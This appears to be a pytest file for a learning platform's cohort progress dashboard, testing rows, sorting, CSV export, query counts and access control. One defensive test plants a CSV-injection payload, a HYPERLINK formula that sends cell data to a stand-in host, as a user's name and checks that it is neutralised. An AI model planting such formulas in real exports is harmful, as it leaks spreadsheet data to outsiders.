"""The cohort progress dashboard: its numbers, order, overdue flags, CSV export, queries and scope."""

import csv
import io
from dataclasses import dataclass
from datetime import date, timedelta
from html.parser import HTMLParser

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import event
from sqlmodel import Session

from app.accounts.models import Role, User
from app.cohorts.models import Attendance, Cohort, Meeting
from app.cohorts.progress import dashboard as board
from app.cohorts.progress import exports
from app.courses import service as course_service
from app.learning import service as learning
from app.quizzes.models import AttemptState, QuizAttempt
from app.timeutil import local_today, utcnow
from tests.factories import log_in, make_cohort, make_user, reload

READINGS = ("primera", "segunda", "caso-itapua", "tercera")  # the `mini` course's lessons and case


pytestmark = pytest.mark.usefixtures("courses")


def add_attempt(
    session: Session, user: User, quiz_id: str, number: int, percent: float | None, slug: str = "mini"
) -> QuizAttempt:
    """A finished attempt, as the quiz player would have left it (percent None: waits for marks)."""
    version, _ = course_service.published(session, slug)
    attempt = QuizAttempt(
        user_id=user.id or 0,
        course_slug=slug,
        quiz_id=quiz_id,
        version_id=version.id or 0,
        number=number,
        max_attempts=0,
        state=AttemptState.finished,
        finished_at=utcnow(),
        percent=percent,
        passed=None if percent is None else percent >= 50,
    )
    session.add(attempt)
    session.commit()
    return attempt


def read(session: Session, user: User, *items: str, slug: str = "mini") -> None:
    found = learning.enrolled(session, user, slug)
    for item in items:
        learning.mark_done(session, found, item)
    session.commit()


def set_due(session: Session, user: User, days_from_now: int, slug: str = "mini") -> None:
    found = learning.enrolled(session, user, slug)
    found.due_on = local_today() + timedelta(days=days_from_now)
    session.add(found)
    session.commit()


@dataclass
class Class:
    instructor: User
    cohort: Cohort
    ana: User
    beto: User
    carla: User


@pytest.fixture
def klass(session: Session, app: FastAPI) -> Class:
    """Ana finished, Beto halfway and past due, Carla has not started and is past due."""
    instructor = make_user(session, app, role=Role.instructor)
    ana = make_user(session, app, full_name="Ana Benítez")
    beto = make_user(session, app, full_name="Beto Cáceres")
    carla = make_user(session, app, full_name="Carla Duarte")
    cohort = make_cohort(session, instructor, members=[carla, ana, beto])
    for user in (ana, beto, carla):
        set_due(session, user, -1)
    add_attempt(session, ana, "control-basico", 1, 40)
    add_attempt(session, ana, "control-basico", 2, 90)  # highest counts: 90
    add_attempt(session, ana, "final", 1, 80)
    read(session, ana, *READINGS)  # the last one records completion
    read(session, beto, "primera", "segunda")
    add_attempt(session, beto, "control-basico", 1, 30.5)
    return Class(instructor, cohort, ana, beto, carla)


def test_rows_carry_each_officers_numbers(session: Session, klass: Class) -> None:
    data = board.build(session, klass.cohort, "mini")

    rows = {row.name: row for row in data.rows}
    ana, beto, carla = rows["Ana Benítez"], rows["Beto Cáceres"], rows["Carla Duarte"]
    assert [m.id for m in data.modules] == ["basico", "practica"]
    assert [q.id for q in data.quizzes] == ["control-basico", "final"]
    assert (ana.percent, ana.complete, ana.overdue, ana.status) == (100, True, False, "complete")
    assert ana.completed_at is not None
    assert ana.read == (3, 1)
    assert [(q.grade, q.passed, q.attempts) for q in ana.quizzes] == [(90, True, 2), (80, True, 1)]
    assert (beto.percent, beto.overdue, beto.status, beto.read) == (33, True, "overdue", (2, 0))
    assert [(q.grade, q.passed, q.attempts) for q in beto.quizzes] == [(30.5, False, 1), (None, False, 0)]
    assert (carla.percent, carla.status, carla.quizzes[0].grade) == (0, "overdue", None)


def test_an_officer_not_yet_due_is_not_overdue(session: Session, klass: Class) -> None:
    set_due(session, klass.beto, 3)

    data = board.build(session, klass.cohort, "mini")

    beto = next(row for row in data.rows if row.user_id == klass.beto.id)
    assert (beto.overdue, beto.status) == (False, "in_progress")


def test_dashboard_agrees_with_each_officers_own_progress(session: Session, app: FastAPI) -> None:
    instructor = make_user(session, app, role=Role.instructor)
    trainees = [make_user(session, app) for _ in range(3)]
    tot = make_cohort(session, instructor, courses=("mini-formadores",), members=trainees)
    meeting = Meeting(cohort_id=tot.id or 0, starts_at=utcnow(), hours=4.5)
    session.add(meeting)
    session.flush()
    for trainee in trainees[:2]:
        session.add(
            Attendance(
                session_id=meeting.id or 0,
                user_id=trainee.id or 0,
                present=True,
                recorded_by_id=instructor.id or 0,
            )
        )
    session.commit()
    read(session, trainees[0], *READINGS, slug="mini-formadores")
    add_attempt(session, trainees[0], "final", 1, 95, slug="mini-formadores")
    read(session, trainees[1], "primera", slug="mini-formadores")

    data = board.build(session, tot, "mini-formadores")

    assert data.hours_required == 6 and data.practicum
    for row in data.rows:
        own = learning.progress(
            session, learning.enrolled(session, reload(session, row_user(trainees, row)), "mini-formadores")
        )
        assert row.percent == own.percent
        assert row.hours == own.facts.attendance_hours
        assert row.complete == own.outcome.complete
        assert row.practicum_passed == own.facts.practicum_passed
    assert sorted(row.hours for row in data.rows) == [0, 4.5, 4.5]


def row_user(users: list[User], row: board.Row) -> User:
    return next(user for user in users if user.id == row.user_id)


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("name", ["Ana", "Beto", "Carla"]),
        ("-name", ["Carla", "Beto", "Ana"]),
        ("percent", ["Carla", "Beto", "Ana"]),
        ("-percent", ["Ana", "Beto", "Carla"]),
        ("quiz:control-basico", ["Beto", "Ana", "Carla"]),  # Carla has no grade: last either way
        ("-quiz:control-basico", ["Ana", "Beto", "Carla"]),
        ("overdue", ["Beto", "Carla", "Ana"]),
    ],
)
def test_sorting_orders_the_rows(session: Session, klass: Class, sort: str, expected: list[str]) -> None:
    data = board.build(session, klass.cohort, "mini", sort=sort)

    assert [row.name.split()[0] for row in data.rows] == expected


def test_sorting_by_hours_puts_more_hours_last(session: Session, klass: Class) -> None:
    meeting = Meeting(cohort_id=klass.cohort.id or 0, starts_at=utcnow(), hours=2)
    session.add(meeting)
    session.flush()
    session.add(
        Attendance(
            session_id=meeting.id or 0,
            user_id=klass.ana.id or 0,
            present=True,
            recorded_by_id=klass.instructor.id or 0,
        )
    )
    session.commit()

    data = board.build(session, klass.cohort, "mini", sort="hours")

    assert [row.name.split()[0] for row in data.rows] == ["Beto", "Carla", "Ana"]
    assert data.rows[-1].hours == 2


def test_the_page_sorts_and_htmx_gets_only_the_table(client: TestClient, klass: Class) -> None:
    log_in(client, klass.instructor)

    page = client.get(f"/cohorts/{klass.cohort.id}/dashboard?sort=-percent")
    fragment = client.get(
        f"/cohorts/{klass.cohort.id}/dashboard?sort=-percent", headers={"HX-Request": "true"}
    )

    assert page.status_code == 200 and "<html" in page.text and "<svg" in page.text
    assert page.text.index("Ana Benítez") < page.text.index("Beto Cáceres") < page.text.index("Carla Duarte")
    assert fragment.status_code == 200 and "<html" not in fragment.text
    assert fragment.text.lstrip().startswith('<div id="progress">')
    assert 'aria-sort="descending"' in fragment.text


def test_an_unknown_sort_is_refused_with_a_message(client: TestClient, klass: Class) -> None:
    log_in(client, klass.instructor)

    response = client.get(f"/cohorts/{klass.cohort.id}/dashboard?sort=quiz:nope")

    assert response.status_code == 422
    assert "ordenar" in response.text


class _Table(HTMLParser):
    """The text of each body row's cells in the page's progress table."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self.in_body = False
        self.cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "tbody":
            self.in_body = True
        elif tag == "tr" and self.in_body:
            self.rows.append([])
        elif tag in ("td", "th") and self.in_body:
            self.cell = []
        elif tag == "br" and self.cell is not None:
            self.cell.append(" ")

    def handle_endtag(self, tag: str) -> None:
        if tag == "tbody":
            self.in_body = False
        elif tag in ("td", "th") and self.cell is not None:
            self.rows[-1].append(" ".join("".join(self.cell).split()))
            self.cell = None

    def handle_data(self, data: str) -> None:
        if self.cell is not None:
            self.cell.append(data)


def screen_rows(html: str) -> list[list[str]]:
    parser = _Table()
    parser.feed(html)
    return parser.rows


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_csv_export_equals_the_screen(client: TestClient, session: Session, klass: Class) -> None:
    log_in(client, klass.instructor)
    query = "?sort=-quiz:control-basico"

    page = client.get(f"/cohorts/{klass.cohort.id}/dashboard{query}")
    export = client.get(f"/cohorts/{klass.cohort.id}/dashboard.csv{query}")

    assert export.status_code == 200
    assert export.headers["content-disposition"].startswith('attachment; filename="progreso-cohorte-')
    header, *lines = csv_rows(export.content)
    screen = screen_rows(page.text)
    assert len(lines) == len(screen) == 3
    modules = 2
    for line, cells in zip(lines, screen, strict=True):
        name, username, status, percent, hours, *rest = line
        assert cells[0] == f"{name} {username}"
        assert cells[1].endswith(status)
        assert cells[2] == f"{percent} %"
        assert cells[3] == hours
        assert cells[4 : 4 + modules] == rest[:modules]
        for i, quiz_cell in enumerate(cells[4 + modules : 6 + modules]):
            grade, _passed, attempts = rest[modules + 3 * i : modules + 3 * i + 3]
            assert quiz_cell.startswith(grade)
            assert (f"{attempts} intento" in quiz_cell) == (attempts != "0")
        assert cells[-2:] == line[-2:]  # due date, completed on
    assert [line[0] for line in lines] == ["Ana Benítez", "Beto Cáceres", "Carla Duarte"]
    assert lines[1][modules + 5] == "30,5"  # the Spanish decimal comma, as on screen
    assert header[3] == "Avance"


def test_csv_neutralises_a_formula_in_a_name(client: TestClient, session: Session, app: FastAPI) -> None:
    instructor = make_user(session, app, role=Role.instructor)
    formula = '=HYPERLINK("http://example.test/?x="&A1,"Ver")'
    sly = make_user(session, app, full_name=formula, username="sly")
    cohort = make_cohort(session, instructor, members=[sly])
    log_in(client, instructor)

    page = client.get(f"/cohorts/{cohort.id}/dashboard")
    export = client.get(f"/cohorts/{cohort.id}/dashboard.csv")

    assert csv_rows(export.content)[1][0] == "'" + formula
    assert "=HYPERLINK(&#34;http://example.test/?x=&#34;&amp;A1" in page.text  # escaped on screen


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_each_formula_start_gets_an_apostrophe(cell: str) -> None:
    assert exports.neutralise(cell) == "'" + cell


def test_plain_cells_are_left_alone() -> None:
    assert exports.neutralise("Ana 'Ñeembucú'") == "Ana 'Ñeembucú'"
    assert exports.neutralise("30,5") == "30,5"


def test_another_instructor_gets_404_on_every_page_fragment_and_export(
    client: TestClient, session: Session, app: FastAPI, klass: Class
) -> None:
    other = make_user(session, app, role=Role.instructor)
    log_in(client, other)
    base = f"/cohorts/{klass.cohort.id}"

    for path in (
        f"{base}/dashboard",
        f"{base}/dashboard?sort=-percent",
        f"{base}/dashboard.csv",
        f"{base}/analysis",
        f"{base}/analysis/mini/control-basico",
    ):
        assert client.get(path).status_code == 404, path
        assert client.get(path, headers={"HX-Request": "true"}).status_code == 404, path


def test_an_officer_of_the_cohort_cannot_see_its_dashboard(client: TestClient, klass: Class) -> None:
    log_in(client, klass.ana)

    assert client.get(f"/cohorts/{klass.cohort.id}/dashboard.csv").status_code == 404


def test_a_course_not_in_the_cohort_is_not_found(client: TestClient, klass: Class) -> None:
    log_in(client, klass.instructor)

    assert client.get(f"/cohorts/{klass.cohort.id}/dashboard?course=mini-formadores").status_code == 404


def test_the_number_of_queries_does_not_grow_with_the_cohort(session: Session, app: FastAPI) -> None:
    instructor = make_user(session, app, role=Role.instructor)
    small = make_cohort(session, instructor, members=[make_user(session, app) for _ in range(2)])
    large = make_cohort(session, instructor, members=[make_user(session, app) for _ in range(8)])
    for cohort in (small, large):
        for user in cohort_members(session, cohort):
            read(session, user, "primera")
            add_attempt(session, user, "control-basico", 1, 60)
    board.build(session, small, "mini")  # parsed course versions are cached from here on

    counts = [
        count_queries(session, app, lambda c=cohort: board.build(session, c, "mini"))
        for cohort in (small, large)
    ]

    assert counts[0] == counts[1] <= 10


def cohort_members(session: Session, cohort: Cohort) -> list[User]:
    from app.cohorts import service

    return service.members(session, cohort)


def count_queries(session: Session, app: FastAPI, action: object) -> int:
    statements: list[str] = []

    def record(*args: object) -> None:
        statements.append(str(args[2]))

    event.listen(app.state.engine, "before_cursor_execute", record)
    try:
        action()  # type: ignore[operator]
    finally:
        event.remove(app.state.engine, "before_cursor_execute", record)
    return len(statements)


def test_completion_series_counts_completions_per_day(session: Session, klass: Class) -> None:
    data = board.build(session, klass.cohort, "mini")
    start = klass.cohort.starts_on

    series = board.completion_series(data, start + timedelta(days=400))

    assert series[0][0] == start and series[-1][0] >= klass.cohort.ends_on
    assert series[-1][1] == 1  # Ana, whenever the test runs
    assert [count for _, count in series] == sorted(count for _, count in series)
    assert board.completion_series(data, date(2000, 1, 1)) == []
